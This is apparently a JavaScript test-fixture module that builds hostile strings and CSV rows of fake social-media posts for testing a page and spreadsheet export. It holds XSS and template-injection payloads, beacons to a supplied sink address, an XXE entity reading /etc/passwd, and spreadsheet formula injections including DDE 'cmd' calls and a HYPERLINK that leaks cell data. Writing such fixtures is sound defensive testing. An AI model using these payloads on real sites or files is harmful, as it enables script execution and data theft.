/** Invented rows in which every cell tries something. */

/** Text that a careless page would run, follow or be confused by. @param {string} sink an address to try to reach */
export function attacks(sink) {
  return [
    `<img src=x onerror="window.__ran=1">`,
    `<img src="${sink}/image">`,
    `<script>window.__ran=2</script>`,
    `"><svg onload="window.__ran=3">`,
    `</style><style>body{background:url(${sink}/style)}`,
    `{{constructor.constructor('window.__ran=4')()}}{{7*7}}`,
    "${alert(1)}",
    `javascript:window.__ran=5`,
    `<iframe srcdoc="<script>parent.__ran=6</script>">`,
    `<a href="${sink}/link" ping="${sink}/ping">x</a>`,
    `url(${sink}/css) @import "${sink}/import"`,
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "\u202egpj.exe\u202c",
    "a\u200bb\ufeffc",
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
  ];
}

/** Text that a spreadsheet would take for a formula. */
export const FORMULAS = [
  `=HYPERLINK("http://127.0.0.1/leak?"&A1,"click")`,
  "=1+1",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  `"=1+1"`,
  ` =1+1`,
];

/** @param {string} text */
const cell = (text) => `"${text.replaceAll('"', '""')}"`;

/**
 * Posts whose names, handles, texts and addresses are the given strings; every author is re-shared by three others, so
 * that all are ranked.
 * @param {string[]} strings
 * @param {{ handles?: boolean }} [options] `handles`: as handles too, not only as names and texts
 */
export function hostilePosts(strings, { handles = true } = {}) {
  const lines = ["author,name,created_at,text,retweet_of,followers,url,bio"];
  /** @param {number} i */
  const handle = (i) => (handles ? strings[i % strings.length] ?? "" : `account_${i % strings.length}`);
  strings.forEach((text, i) => {
    const day = String(1 + (i % 28)).padStart(2, "0");
    const url = i % 2 === 0 ? `javascript:window.__ran=7//${i}` : text;
    lines.push([handle(i), text, `2026-01-${day}T10:00:00Z`, text, "", String(1000 + i), url, text].map(cell).join(","));
    for (const step of [1, 2, 3]) {
      lines.push([handle(i + step), strings[(i + step) % strings.length] ?? "", `2026-02-${day}T1${step}:00:00Z`, `RT ${text}`, handle(i), "50", "", ""]
        .map(cell).join(","));
    }
  });
  return `${lines.join("\n")}\n`;
}
